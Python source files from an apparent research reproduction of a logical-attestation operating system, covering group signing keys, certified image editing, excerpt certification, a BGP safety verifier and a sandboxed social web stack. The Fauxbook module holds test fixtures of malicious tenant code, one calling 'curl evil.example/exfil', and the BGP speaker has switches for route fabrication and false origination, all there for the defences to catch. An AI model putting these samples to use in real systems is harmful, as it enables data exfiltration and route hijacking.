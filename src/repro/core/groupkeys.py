"""Group signatures via VKEY goal formulas (§3.3).

"Group signatures, for instance, can be implemented by creating a VKEY
and setting an appropriate goal formula on the sign operation that can be
discharged by members of the group. Further, by associating a different
goal formula with the externalize operation, an application can separate
the group of programs that can sign for the group from those that perform
key management."

This module is that construction: a signing VKEY registered as a kernel
resource, with ``sign`` gated on group membership and ``externalize``
gated on a distinct key-manager goal.
"""

from __future__ import annotations

from typing import Optional

from repro.core.credentials import CredentialSet
from repro.errors import AccessDenied
from repro.kernel.kernel import NexusKernel
from repro.kernel.process import Process
from repro.nal.parser import parse
from repro.nal.terms import Group
from repro.storage.vkey import VKeyManager


class GroupKeyService:
    """Manages group signing keys under logical-attestation policies."""

    def __init__(self, kernel: NexusKernel,
                 vkeys: Optional[VKeyManager] = None):
        self.kernel = kernel
        self.vkeys = vkeys if vkeys is not None else kernel.vkeys

    def create_group_key(self, owner: Process, group_name: str,
                         key_bits: int = 512,
                         seed: Optional[int] = None):
        """Create the VKEY and attach the two §3.3 goal formulas.

        * ``sign``: dischargeable by any principal the owner admits to the
          group (``owner says member(group, ?Subject)``);
        * ``externalize``: dischargeable only by principals the owner
          designates as key managers.
        """
        vkey = self.vkeys.create("signing", key_bits=key_bits, seed=seed)
        resource = self.kernel.resources.create(
            name=f"/vkey/{group_name}", kind="vkey",
            owner=owner.principal, payload=vkey)
        self.kernel.sys_setgoal(
            owner.pid, resource.resource_id, "sign",
            f"{owner.path} says member(group:{group_name}, ?Subject)")
        self.kernel.sys_setgoal(
            owner.pid, resource.resource_id, "externalize",
            f"{owner.path} says keyManager(group:{group_name}, ?Subject)")
        return resource

    # -- membership management (labels, not ACLs) ------------------------------

    def admit_member(self, owner: Process, group_name: str,
                     member: Process) -> CredentialSet:
        label = self.kernel.sys_say(
            owner.pid, f"member(group:{group_name}, {member.path})")
        return CredentialSet([label])

    def appoint_manager(self, owner: Process, group_name: str,
                        manager: Process) -> CredentialSet:
        label = self.kernel.sys_say(
            owner.pid, f"keyManager(group:{group_name}, {manager.path})")
        return CredentialSet([label])

    # -- guarded operations --------------------------------------------------------

    def sign(self, subject: Process, group_name: str, message: bytes,
             credentials: CredentialSet) -> bytes:
        resource = self.kernel.resources.lookup(f"/vkey/{group_name}")
        goal = self._concrete_goal(resource, "sign", subject)
        bundle = credentials.try_bundle_for(goal)
        return self.kernel.guarded_call(
            subject.pid, "sign", resource.resource_id,
            resource.payload.sign, message, bundle=bundle)

    def externalize(self, subject: Process, group_name: str,
                    credentials: CredentialSet,
                    wrap_with: int = 0) -> bytes:
        resource = self.kernel.resources.lookup(f"/vkey/{group_name}")
        goal = self._concrete_goal(resource, "externalize", subject)
        bundle = credentials.try_bundle_for(goal)
        return self.kernel.guarded_call(
            subject.pid, "externalize", resource.resource_id,
            self.vkeys.externalize, resource.payload.vkey_id, wrap_with,
            bundle=bundle)

    def public_key(self, group_name: str):
        """The verification key is public — no goal needed."""
        resource = self.kernel.resources.lookup(f"/vkey/{group_name}")
        return resource.payload.public_key()

    def _concrete_goal(self, resource, operation, subject: Process):
        from repro.kernel.guard import RESOURCE_VAR, SUBJECT_VAR
        from repro.nal.terms import Name
        entry = self.kernel.default_guard.goals.get(resource.resource_id,
                                                    operation)
        if entry is None:
            return parse("true")
        return entry.formula.substitute({
            SUBJECT_VAR: self.kernel.processes.get(subject.pid).principal,
            RESOURCE_VAR: Name(resource.name),
        })
