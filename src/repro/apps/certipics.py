"""CertiPics (§4): certified image editing.

An image-processing suite that, alongside every derived image, emits a
hash-chained, signed log of the transformations applied. Given source,
result, and log, an analyzer can check that no disallowed operation (e.g.
cloning) produced the published picture. The processing elements are the
portable-bitmap-style basics: crop, resize, grayscale/invert transforms,
and region cloning.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.crypto.hashes import sha256
from repro.crypto.rsa import RSAKeyPair, RSAPublicKey
from repro.errors import AppError, IntegrityError, PolicyViolation


@dataclass(frozen=True)
class Image:
    """A tiny raster: tuple of rows, each a tuple of 0-255 ints."""

    pixels: Tuple[Tuple[int, ...], ...]

    @staticmethod
    def from_rows(rows: Sequence[Sequence[int]]) -> "Image":
        widths = {len(r) for r in rows}
        if len(widths) > 1:
            raise AppError("ragged image rows")
        return Image(tuple(tuple(int(v) & 0xFF for v in row)
                           for row in rows))

    @property
    def height(self) -> int:
        return len(self.pixels)

    @property
    def width(self) -> int:
        return len(self.pixels[0]) if self.pixels else 0

    def digest(self) -> bytes:
        return sha256(json.dumps(self.pixels).encode())


# -- processing elements ------------------------------------------------------

def crop(image: Image, x: int, y: int, w: int, h: int) -> Image:
    if x < 0 or y < 0 or x + w > image.width or y + h > image.height:
        raise AppError("crop out of bounds")
    return Image(tuple(row[x:x + w] for row in image.pixels[y:y + h]))


def resize(image: Image, w: int, h: int) -> Image:
    """Nearest-neighbour resample."""
    if w < 1 or h < 1:
        raise AppError("resize to empty image")
    rows = []
    for j in range(h):
        src_row = image.pixels[j * image.height // h]
        rows.append(tuple(src_row[i * image.width // w] for i in range(w)))
    return Image(tuple(rows))


def grayscale(image: Image) -> Image:
    # Single-channel model: grayscale is a smoothing transform here.
    return Image(tuple(
        tuple(((row[max(0, i - 1)] + v + row[min(len(row) - 1, i + 1)]) // 3)
              for i, v in enumerate(row))
        for row in image.pixels))


def invert(image: Image) -> Image:
    return Image(tuple(tuple(255 - v for v in row) for row in image.pixels))


def clone_region(image: Image, src: Tuple[int, int, int, int],
                 dst: Tuple[int, int]) -> Image:
    """Copy a rectangle over another area — the op news scandals are made
    of, and the one CertiPics policies typically forbid."""
    x, y, w, h = src
    dx, dy = dst
    if dx + w > image.width or dy + h > image.height:
        raise AppError("clone destination out of bounds")
    rows = [list(row) for row in image.pixels]
    patch = [row[x:x + w] for row in image.pixels[y:y + h]]
    for j in range(h):
        rows[dy + j][dx:dx + w] = patch[j]
    return Image(tuple(tuple(row) for row in rows))


_OPERATIONS = {
    "crop": crop,
    "resize": resize,
    "grayscale": grayscale,
    "invert": invert,
    "clone": clone_region,
}


# -- the certified log -----------------------------------------------------------

@dataclass(frozen=True)
class LogEntry:
    operation: str
    params: tuple
    input_digest: bytes
    output_digest: bytes
    prev_hash: bytes

    def entry_hash(self) -> bytes:
        body = json.dumps(
            [self.operation, list(map(str, self.params)),
             self.input_digest.hex(), self.output_digest.hex(),
             self.prev_hash.hex()]).encode()
        return sha256(body)


@dataclass
class TransformLog:
    entries: List[LogEntry] = field(default_factory=list)
    signature: bytes = b""

    def head(self) -> bytes:
        return self.entries[-1].entry_hash() if self.entries else b"\x00" * 32


class CertiPics:
    """An editing session that produces image + unforgeable log."""

    def __init__(self, source: Image, signing_key: RSAKeyPair):
        self.source = source
        self.current = source
        self._key = signing_key
        self.log = TransformLog()

    def apply(self, operation: str, *params) -> Image:
        fn = _OPERATIONS.get(operation)
        if fn is None:
            raise AppError(f"unknown operation {operation!r}")
        before = self.current
        after = fn(before, *params)
        self.log.entries.append(LogEntry(
            operation=operation, params=params,
            input_digest=before.digest(), output_digest=after.digest(),
            prev_hash=self.log.head()))
        self.current = after
        return after

    def finalize(self) -> TransformLog:
        self.log.signature = self._key.sign(self.log.head())
        return self.log


# -- verification ------------------------------------------------------------------

def verify_log(source: Image, result: Image, log: TransformLog,
               signer: RSAPublicKey,
               forbidden_ops: Sequence[str] = ("clone",)) -> None:
    """Check the certified log end to end.

    Raises :class:`IntegrityError` for forged/reordered logs and
    :class:`PolicyViolation` when a forbidden operation appears.
    """
    signer.verify(log.head(), log.signature)
    prev = b"\x00" * 32
    expected_input = source.digest()
    for entry in log.entries:
        if entry.prev_hash != prev:
            raise IntegrityError("log chain broken: entries reordered or "
                                 "removed")
        if entry.input_digest != expected_input:
            raise IntegrityError("log chain broken: input does not match "
                                 "previous output")
        prev = entry.entry_hash()
        expected_input = entry.output_digest
    if expected_input != result.digest():
        raise IntegrityError("published image is not the log's final output")
    for entry in log.entries:
        if entry.operation in forbidden_ops:
            raise PolicyViolation(
                f"disallowed modification applied: {entry.operation}")
