"""TruDocs (§4): policy-checked document excerpting.

TruDocs ensures a quoted excerpt "conveys the beliefs intended in the
original document": it certifies ``excerpt speaksfor document`` only when
the excerpt is derivable from the source under a use policy. Supported
derivations mirror the paper: changing typecase, replacing elided text
with ellipses, and inserting editorial comments in square brackets;
policies bound excerpt length and count.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from repro.crypto.hashes import sha256
from repro.errors import PolicyViolation
from repro.kernel.kernel import NexusKernel
from repro.nal.formula import Formula

ELLIPSIS = "..."
_EDITORIAL_RE = re.compile(r"\[[^\[\]]*\]")


@dataclass(frozen=True)
class UsePolicy:
    """What the document owner permits."""

    max_excerpt_words: int = 50
    max_excerpts: int = 10
    allow_case_change: bool = True
    allow_ellipsis: bool = True
    allow_editorial: bool = True


@dataclass
class Document:
    name: str
    text: str
    policy: UsePolicy = field(default_factory=UsePolicy)

    def digest(self) -> str:
        return sha256(self.text).hex()[:16]


def _strip_editorial(excerpt: str) -> str:
    return _EDITORIAL_RE.sub(" ", excerpt)


def _segments(excerpt: str) -> List[str]:
    """Split an excerpt into the literal segments between ellipses."""
    return [seg.strip() for seg in excerpt.split(ELLIPSIS) if seg.strip()]


class TruDocs:
    """The certifier. Runs as a process; its labels carry its authority."""

    def __init__(self, kernel: NexusKernel):
        self.kernel = kernel
        self.process = kernel.create_process("trudocs",
                                             image=b"trudocs-extension")
        self._issued: dict = {}

    # -- derivation check ----------------------------------------------------

    def check_excerpt(self, document: Document, excerpt: str) -> None:
        """Raise :class:`PolicyViolation` unless the excerpt is derivable
        from the document under its policy."""
        policy = document.policy
        working = excerpt
        if _EDITORIAL_RE.search(working):
            if not policy.allow_editorial:
                raise PolicyViolation("editorial insertions not permitted")
            working = _strip_editorial(working)
        if ELLIPSIS in working and not policy.allow_ellipsis:
            raise PolicyViolation("ellipsis substitution not permitted")
        word_count = len(working.replace(ELLIPSIS, " ").split())
        if word_count > policy.max_excerpt_words:
            raise PolicyViolation(
                f"excerpt has {word_count} words; policy allows "
                f"{policy.max_excerpt_words}")
        segments = _segments(working)
        if not segments:
            raise PolicyViolation("empty excerpt")
        haystack = document.text
        if policy.allow_case_change:
            haystack = haystack.lower()
        position = 0
        for segment in segments:
            needle = segment.lower() if policy.allow_case_change else segment
            found = haystack.find(needle, position)
            if found < 0:
                raise PolicyViolation(
                    f"segment not found in source (or out of order): "
                    f"{segment!r}")
            position = found + len(needle)

    # -- certification -----------------------------------------------------------

    def certify(self, document: Document, excerpt: str) -> Formula:
        """Check the excerpt and issue
        ``TruDocs says excerpt-<h> speaksfor doc-<h>``."""
        already = self._issued.get(document.name, 0)
        if already >= document.policy.max_excerpts:
            raise PolicyViolation(
                f"policy allows at most {document.policy.max_excerpts} "
                "excerpts from this document")
        self.check_excerpt(document, excerpt)
        self._issued[document.name] = already + 1
        excerpt_id = f"excerpt-{sha256(excerpt).hex()[:16]}"
        doc_id = f"doc-{document.digest()}"
        label = self.kernel.sys_say(
            self.process.pid, f"{excerpt_id} speaksfor {doc_id}")
        return label.formula
