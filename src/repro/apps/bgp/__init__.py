"""BGP speakers and the external-security-monitor verifier (§4)."""

from repro.apps.bgp.messages import Advertisement, RibEntry, Withdrawal
from repro.apps.bgp.speaker import BGPSpeaker
from repro.apps.bgp.verifier import BGPVerifier, Violation

__all__ = ["Advertisement", "RibEntry", "Withdrawal", "BGPSpeaker",
           "BGPVerifier", "Violation"]
