"""BGP message and route types for the protocol verifier (§4)."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Tuple


@dataclass(frozen=True)
class Advertisement:
    """A BGP UPDATE announcing reachability of ``prefix`` via ``as_path``.

    ``as_path[0]`` is the advertising (most recent) AS; the last element
    is the originating AS.
    """

    prefix: str
    as_path: Tuple[int, ...]

    @property
    def advertiser(self) -> int:
        return self.as_path[0]

    @property
    def origin(self) -> int:
        return self.as_path[-1]

    @property
    def length(self) -> int:
        return len(self.as_path)

    def prepend(self, asn: int) -> "Advertisement":
        return Advertisement(self.prefix, (asn,) + self.as_path)

    def has_loop(self) -> bool:
        return len(set(self.as_path)) != len(self.as_path)


@dataclass(frozen=True)
class Withdrawal:
    """A BGP UPDATE withdrawing a previously announced prefix."""

    prefix: str
    speaker: int


@dataclass
class RibEntry:
    """One candidate route in the routing information base."""

    advertisement: Advertisement
    learned_from: int

    @property
    def length(self) -> int:
        return self.advertisement.length
