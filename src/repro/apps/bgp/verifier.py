"""The BGP protocol verifier (§4): synthetic trust for legacy routers.

Instead of TPM-equipping every router and certifying BGP implementations
(axiomatic trust, hopeless at Internet scale), the verifier straddles a
legacy speaker as a proxy, monitoring its inputs and outputs and blocking
any outgoing update that violates minimal BGP safety rules:

* **no route fabrication** — a speaker must not advertise an ``n``-hop
  route to a destination for which the shortest advertisement it received
  is ``m`` hops, for ``n < m`` (allowing for its own prepended AS);
* **no false origination** — a speaker must not originate a prefix it
  does not own;
* path hygiene — the speaker's own AS must head the path, and paths must
  be loop-free.

Conforming speakers earn labels; violations are blocked and logged.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Set

from repro.apps.bgp.messages import Advertisement, Withdrawal
from repro.apps.bgp.speaker import BGPSpeaker
from repro.errors import PolicyViolation
from repro.kernel.kernel import NexusKernel
from repro.nal.formula import Formula


@dataclass
class Violation:
    rule: str
    advertisement: Advertisement
    detail: str


class BGPVerifier:
    """An external security monitor proxying one legacy speaker."""

    def __init__(self, speaker: BGPSpeaker,
                 prefix_ownership: dict,
                 kernel: Optional[NexusKernel] = None):
        self.speaker = speaker
        self.prefix_ownership = dict(prefix_ownership)  # prefix → owner AS
        self.kernel = kernel
        self.process = (kernel.create_process(f"bgp-verifier-as{speaker.asn}",
                                              image=b"bgp-verifier")
                        if kernel is not None else None)
        self.violations: List[Violation] = []
        #: Shortest path length seen *inbound* per prefix — the monitor
        #: watches both directions, so it knows what the speaker knows.
        self._shortest_in: dict = {}

    # -- inbound path (observe) ------------------------------------------------

    def deliver_inbound(self, advertisement: Advertisement,
                        from_as: int) -> None:
        best = self._shortest_in.get(advertisement.prefix)
        if best is None or advertisement.length < best:
            self._shortest_in[advertisement.prefix] = advertisement.length
        self.speaker.receive(advertisement, from_as)

    def deliver_withdrawal(self, withdrawal: Withdrawal,
                           from_as: int) -> None:
        self.speaker.receive_withdrawal(withdrawal, from_as)

    # -- outbound path (enforce) -----------------------------------------------------

    def emit(self, prefix: str) -> Advertisement:
        """Ask the speaker to advertise; verify before letting it out.

        Raises :class:`PolicyViolation` (and records it) when blocked.
        """
        advertisement = self.speaker.advertise(prefix)
        self._check(advertisement)
        return advertisement

    def _check(self, advertisement: Advertisement) -> None:
        prefix = advertisement.prefix
        if advertisement.advertiser != self.speaker.asn:
            self._blocked("path-hygiene", advertisement,
                          "path does not start with the speaker's AS")
        if advertisement.has_loop():
            self._blocked("path-hygiene", advertisement, "AS path loop")
        if advertisement.length == 1:
            owner = self.prefix_ownership.get(prefix)
            if owner != self.speaker.asn:
                self._blocked(
                    "false-origination", advertisement,
                    f"AS{self.speaker.asn} originated {prefix} owned by "
                    f"AS{owner}")
            return
        shortest = self._shortest_in.get(prefix)
        if shortest is None:
            self._blocked("route-fabrication", advertisement,
                          "advertised a transit route never received")
        elif advertisement.length < shortest + 1:
            self._blocked(
                "route-fabrication", advertisement,
                f"advertised {advertisement.length} hops; shortest "
                f"received was {shortest} (+1 for own AS)")

    def _blocked(self, rule: str, advertisement: Advertisement,
                 detail: str) -> None:
        violation = Violation(rule=rule, advertisement=advertisement,
                              detail=detail)
        self.violations.append(violation)
        raise PolicyViolation(f"BGP safety: {rule}: {detail}")

    # -- labels -------------------------------------------------------------------------

    def conformance_label(self) -> Optional[Formula]:
        """``verifier says conformsToBGPSafety(ASn)`` — issued only while
        no violation has been observed."""
        if self.kernel is None or self.process is None:
            return None
        if self.violations:
            return None
        label = self.kernel.sys_say(
            self.process.pid, f"conformsToBGPSafety(AS{self.speaker.asn})")
        return label.formula
