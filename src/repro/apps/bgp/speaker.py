"""A legacy BGP speaker: RIB, best-path selection, re-advertisement.

This is the *unmodified, untrusted* component the external security
monitor straddles. It can be instantiated honest or with injected
misbehaviours (route fabrication, false origination) so the verifier has
something to catch.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.apps.bgp.messages import Advertisement, RibEntry, Withdrawal
from repro.errors import AppError


class BGPSpeaker:
    """One autonomous system's BGP daemon."""

    def __init__(self, asn: int, owned_prefixes: Set[str] = frozenset()):
        self.asn = asn
        self.owned_prefixes = set(owned_prefixes)
        #: prefix → candidate routes, keyed by the neighbor we heard from.
        self.rib: Dict[str, Dict[int, RibEntry]] = {}
        self.peers: Set[int] = set()
        #: Misbehaviour knobs (for the verifier's benefit).
        self.lie_shorten_paths = False
        self.lie_originate: Set[str] = set()

    # -- session management ----------------------------------------------------

    def add_peer(self, asn: int) -> None:
        self.peers.add(asn)

    # -- receiving updates --------------------------------------------------------

    def receive(self, advertisement: Advertisement, from_as: int) -> None:
        if advertisement.has_loop():
            return  # standard loop suppression
        if self.asn in advertisement.as_path:
            return
        entries = self.rib.setdefault(advertisement.prefix, {})
        entries[from_as] = RibEntry(advertisement=advertisement,
                                    learned_from=from_as)

    def receive_withdrawal(self, withdrawal: Withdrawal,
                           from_as: int) -> None:
        entries = self.rib.get(withdrawal.prefix)
        if entries:
            entries.pop(from_as, None)

    # -- best path selection -----------------------------------------------------------

    def best_route(self, prefix: str) -> Optional[RibEntry]:
        entries = self.rib.get(prefix)
        if not entries:
            return None
        return min(entries.values(),
                   key=lambda e: (e.length, e.learned_from))

    def shortest_received_length(self, prefix: str) -> Optional[int]:
        best = self.best_route(prefix)
        return best.length if best else None

    # -- emitting updates -----------------------------------------------------------------

    def advertise(self, prefix: str) -> Advertisement:
        """Produce the advertisement this AS would send its peers."""
        if prefix in self.owned_prefixes:
            return Advertisement(prefix, (self.asn,))
        if prefix in self.lie_originate:
            # False origination: claim ownership of someone else's prefix.
            return Advertisement(prefix, (self.asn,))
        best = self.best_route(prefix)
        if best is None:
            raise AppError(f"AS{self.asn} has no route to {prefix}")
        adv = best.advertisement.prepend(self.asn)
        if self.lie_shorten_paths and len(adv.as_path) > 2:
            # Route fabrication: advertise an n-hop route where the
            # shortest received was m, with n < m.
            adv = Advertisement(prefix, (self.asn, adv.as_path[-1]))
        return adv

    def withdraw(self, prefix: str) -> Withdrawal:
        return Withdrawal(prefix=prefix, speaker=self.asn)
