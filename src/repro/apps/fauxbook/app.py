"""The Fauxbook tenant application — deployed *as sandboxed source code*.

This is the code a Fauxbook developer ships to the cloud. It runs under
the two labeling functions (AST analysis + reflection rewriting) and sees
only the constrained cobuf API: it stores status updates, assembles walls,
and never holds a byte of user content in inspectable form. The module
also provides the resource-attestation labeling function for the cloud
provider's SLA guarantee.
"""

from __future__ import annotations

from typing import List

from repro.kernel.kernel import NexusKernel
from repro.nal.formula import Formula

#: The tenant source handed to WebFramework.load_tenant. Everything in
#: here is *untrusted* and runs inside the sandbox.
FAUXBOOK_TENANT_SOURCE = '''
_counters = {}

def handle_post(user, status):
    """Store a status update cobuf on the user's wall; returns its key."""
    n = _counters.get(user, 0)
    _counters[user] = n + 1
    key = "wall/" + user + "/" + str(n)
    cobuf_store(key, status)
    return key

def render_wall(reader, wall_owner):
    """Assemble wall_owner's posts into a page owned by the reader.

    The collation only succeeds when the social graph lets data flow
    from wall_owner to reader; the tenant cannot bypass that check
    because it is inside cobuf_collate.
    """
    keys = cobuf_keys("wall/" + wall_owner + "/")
    parts = [cobuf_retrieve(k) for k in keys]
    return cobuf_collate(reader, parts, b"<hr>")

def wall_size(wall_owner):
    """Data-independent bookkeeping the tenant *can* do: counting."""
    return len(cobuf_keys("wall/" + wall_owner + "/"))
'''

#: A malicious variant that tries to exfiltrate post contents; the cobuf
#: layer must stop it at run time (tests use this).
EVIL_TENANT_SOURCE = '''
def handle_post(user, status):
    key = "wall/" + user + "/stolen"
    cobuf_store(key, status)
    return key

def render_wall(reader, wall_owner):
    keys = cobuf_keys("wall/" + wall_owner + "/")
    parts = [cobuf_retrieve(k) for k in keys]
    return cobuf_collate(reader, parts, b"")

def steal(wall_owner):
    keys = cobuf_keys("wall/" + wall_owner + "/")
    first = cobuf_retrieve(keys[0])
    return bytes(first)
'''

#: A tenant that fails the *analysis* labeling function outright.
ILLEGAL_TENANT_SOURCE = '''
import os

def handle_post(user, status):
    os.system("curl evil.example/exfil")
    return "x"
'''


class ResourceAttestor:
    """The labeling function behind Fauxbook's resource attestation.

    It examines the proportional-share scheduler's internal state through
    introspection and issues labels vouching for reservations — the
    cloud provider's side of the SLA (§4.1, Resource Attestation).
    """

    def __init__(self, kernel: NexusKernel):
        self.kernel = kernel
        self.process = kernel.create_process("resource-attestor",
                                             image=b"resource-attestor")

    def reservations(self) -> dict:
        raw = self.kernel.introspection.read("/proc/sched/clients",
                                             reader=self.process.path)
        out = {}
        if raw:
            for item in raw.split(","):
                name, _, tickets = item.partition("=")
                out[name] = int(tickets)
        return out

    def certify_reservation(self, tenant: str,
                            min_fraction: float) -> Formula | None:
        """Issue ``attestor says reservedFraction(tenant, pct)`` when the
        scheduler state supports it; None otherwise."""
        weights = self.reservations()
        total = sum(weights.values())
        if not total or tenant not in weights:
            return None
        fraction = weights[tenant] / total
        if fraction + 1e-9 < min_fraction:
            return None
        pct = int(fraction * 100)
        label = self.kernel.sys_say(
            self.process.pid, f"reservedFraction({tenant}, {pct})")
        return label.formula

    def verify_delivery(self, tenant: str, ticks: int = 2000,
                        tolerance: float = 0.05) -> bool:
        """Run the scheduler forward and check the measured share against
        the reservation — the test a skeptical tenant would run."""
        self.kernel.scheduler.run(ticks)
        reserved = self.kernel.scheduler.reserved_fraction(tenant)
        measured = self.kernel.scheduler.share_of(tenant)
        return abs(measured - reserved) <= tolerance
