"""The assembled Fauxbook multi-tier stack (Figure 3) with the Figure 8
configuration knobs.

Request flow: (simulated) wire bytes → web server (HTTP parse, lockdown)
→ web framework (sessions, tenants, cobufs) → filesystem / SSR. The three
evaluation dimensions of Figure 8 are constructor options:

* ``access_control`` — "none" | "static" (cacheable proof) | "dynamic"
  (embedded-authority query per request);
* ``ref_monitor``    — None | "kernel" | "user", with ``monitor_cache``
  mapping to the paper's min/max bars;
* ``storage``        — "none" (RAM fs) | "hash" (integrity-protected SSR)
  | "decrypt" (encrypted SSR).
"""

from __future__ import annotations

import math
from typing import Dict, Optional

from repro.api.service import NexusService
from repro.apps.fauxbook.app import FAUXBOOK_TENANT_SOURCE
from repro.apps.fauxbook.framework import WebFramework
from repro.errors import AccessDenied, AppError, NoSuchResource
from repro.fs.ramfs import FileServer
from repro.kernel.interposition import SyscallWhitelistMonitor
from repro.kernel.kernel import NexusKernel
from repro.nal.proof import Assume, ProofBundle
from repro.net.http import (HTTPRequest, HTTPResponse, Router,
                            parse_request)
from repro.net.udp import PolicyCheckMonitor
from repro.policy import PolicyRule, PolicySet, Selector
from repro.storage.ssr import SecureStorageRegion
from repro.storage.vkey import VKeyManager

ACCESS_MODES = ("none", "static", "dynamic")
STORAGE_MODES = ("none", "hash", "decrypt")
MONITOR_MODES = (None, "kernel", "user")

#: Per-mode goal templates for static content: the one declarative rule
#: that replaces the per-file ``setgoal`` sequence the stack used to run.
ACCESS_GOALS = {
    "none": "true",
    "static": "WWWOwner says mayServe(?Subject)",
    "dynamic": "name.webserver says user = visitor",
}


def access_policy(access_control: str) -> PolicySet:
    """The stack's declarative access policy for static content.

    One rule over the whole ``/fs/`` subtree: every static file, present
    or future, gets the mode's ``serve`` goal — applying the set after a
    new upload covers it, no imperative per-file ``setgoal``.
    """
    return PolicySet(
        name="www-access",
        description=f"fauxbook static content, mode={access_control}",
        rules=(PolicyRule(selector=Selector(prefix="/fs/", kind="file"),
                          operations=("serve",),
                          goal=ACCESS_GOALS[access_control]),))


def monitor_policy() -> PolicySet:
    """The reference-monitor consent policy (drv_policy on /policy/www)."""
    return PolicySet(
        name="www-monitor",
        description="per-request driver-policy check for the web server",
        rules=(PolicyRule(selector=Selector(name="/policy/www",
                                            kind="policy"),
                          operations=("drv_policy",),
                          goal="Certifier says compliant(?Subject)"),))


class FauxbookStack:
    """One configured deployment of the Fauxbook pipeline."""

    def __init__(self, access_control: str = "none",
                 ref_monitor: Optional[str] = None,
                 monitor_cache: bool = True,
                 storage: str = "none",
                 tenant_source: str = FAUXBOOK_TENANT_SOURCE):
        if access_control not in ACCESS_MODES:
            raise ValueError(f"unknown access control {access_control!r}")
        if storage not in STORAGE_MODES:
            raise ValueError(f"unknown storage mode {storage!r}")
        if ref_monitor not in MONITOR_MODES:
            raise ValueError(f"unknown monitor mode {ref_monitor!r}")
        self.access_control = access_control
        self.storage_mode = storage

        self.kernel = NexusKernel()
        self.kernel.decision_cache.enabled = monitor_cache
        self.fs = FileServer(self.kernel)
        self.framework = WebFramework(tenant_source=tenant_source)
        self.kernel.register_authority("webserver-user",
                                       self.framework.session_authority)
        self.kernel.register_authority("python-friends",
                                       self.framework.friend_authority)

        self.server = self.kernel.create_process("www", image=b"lighttpd")
        self.server_port = self.kernel.create_port(
            self.server.pid, "http", handler=self._handle_raw)
        self._client = self.kernel.create_process("http-client")
        self._ssrs: Dict[str, SecureStorageRegion] = {}
        self._ssr_lengths: Dict[str, int] = {}
        self._vkeys = VKeyManager(tpm=self.kernel.tpm)
        self._static_resource_ids: Dict[str, int] = {}
        # The stack's entry points live on the shared Router, and the
        # attestation API is mounted beside them under /api/v1/ — the
        # same kernel that guards the pages serves authorization as a
        # service to remote principals.
        self.api = NexusService(self.kernel)
        # Access policy is *declared* once as a versioned PolicySet;
        # every put_file re-applies it so new content is covered.
        self.kernel.policies.put(access_policy(access_control))
        self.router = self._build_router()
        self._lockdown()
        if ref_monitor is not None:
            self._install_monitor(ref_monitor)

    # -- construction helpers ------------------------------------------------

    def _lockdown(self) -> None:
        """After initialization the web server relinquishes all system
        calls except IPC-ish ones (§4.1: "the web server relinquishes the
        right to execute all other system calls after initialization")."""
        self.lockdown_monitor = SyscallWhitelistMonitor(
            allowed={"null", "gettimeofday", "yield"})
        self.kernel.interpose_syscall_channel(self.server.pid,
                                              self.lockdown_monitor)

    def _install_monitor(self, kind: str) -> None:
        kernel = self.kernel
        policy = kernel.resources.create("/policy/www", "policy",
                                         self.server.principal)
        kernel.policies.put(monitor_policy())
        kernel.policies.apply(self.server.pid, "www-monitor")
        cred = kernel.say_as(
            "Certifier", f"compliant({self.server.path})",
            store=kernel.default_labelstore(self.server.pid)).formula
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        monitor_port_id = None
        if kind == "user":
            monitor_proc = kernel.create_process("www-monitor",
                                                 image=b"uref")
            port = kernel.create_port(
                monitor_proc.pid, "www-monitor",
                handler=lambda op: kernel.authorize(
                    self.server.pid, "drv_policy", policy.resource_id,
                    bundle))
            monitor_port_id = port.port_id
        self.policy_monitor = PolicyCheckMonitor(
            kernel, self.server.pid, policy.resource_id, bundle,
            monitor_port_id=monitor_port_id)
        self.kernel.redirector.interpose(("ipc", self.server_port.port_id),
                                         self.policy_monitor)

    # -- static content management ------------------------------------------------

    def put_file(self, path: str, data: bytes) -> None:
        """Install a static file under the configured storage mode, then
        extend the declared access PolicySet to the new resource (a full
        apply the first time, the O(rules) incremental ``cover`` after —
        bulk installs stay linear in the file count)."""
        if self.storage_mode == "none":
            self.fs.raw_write(path, data, owner_pid=self.server.pid)
        else:
            self._put_ssr(path, data)
        resource = self.kernel.resources.find(f"/fs{path}")
        if resource is None:
            resource = self.kernel.resources.create(
                f"/fs{path}", "file", self.server.principal, payload=path)
        self._static_resource_ids[path] = resource.resource_id
        engine = self.kernel.policies
        if engine.active_version("www-access") is None:
            engine.apply(self.server.pid, "www-access")
        else:
            engine.cover(self.server.pid, "www-access", resource)
        self._register_client_proof(path, resource.resource_id)

    def _put_ssr(self, path: str, data: bytes) -> None:
        block_size = 1024  # the paper's Fauxbook blocksize
        blocks = max(1, math.ceil(len(data) / block_size))
        vkey = (self._vkeys.create("symmetric")
                if self.storage_mode == "decrypt" else None)
        ssr = SecureStorageRegion(
            name=f"www{path.replace('/', '_')}", disk=self.kernel.disk,
            vdirs=self.kernel.vdirs, size_blocks=blocks,
            block_size=block_size, vkey=vkey)
        ssr.create()
        ssr.write(0, data)
        self._ssrs[path] = ssr
        self._ssr_lengths[path] = len(data)

    def _register_client_proof(self, path: str, resource_id: int) -> None:
        """The client-side half the PolicySet cannot (and must not)
        declare: pre-registering each subject's proof of the goal."""
        kernel = self.kernel
        if self.access_control == "none":
            return
        if self.access_control == "static":
            cred = kernel.say_as(
                "WWWOwner", f"mayServe({self._client.path})",
                store=kernel.default_labelstore(self.server.pid)).formula
            bundle = ProofBundle(Assume(cred), credentials=(cred,))
            kernel.sys_set_proof(self._client.pid, "serve", resource_id,
                                 bundle)
            return
        # dynamic: every request consults the embedded session authority.
        from repro.nal.parser import parse
        from repro.nal.proof import AuthorityQuery
        statement = parse("name.webserver says user = visitor")
        bundle = ProofBundle(AuthorityQuery(statement, "webserver-user"))
        kernel.sys_set_proof(self._client.pid, "serve", resource_id, bundle)
        if not self.framework.graph.has_user("visitor"):
            self.framework.create_user("visitor", "pw")
        self._visitor_token = self.framework.login("visitor", "pw")

    def _read_static(self, path: str) -> bytes:
        if self.storage_mode == "none":
            return self.fs.raw_read(path)
        ssr = self._ssrs.get(path)
        if ssr is None:
            raise NoSuchResource(f"no such static file {path}")
        return ssr.read(0, self._ssr_lengths[path])

    # -- request handling ---------------------------------------------------------------

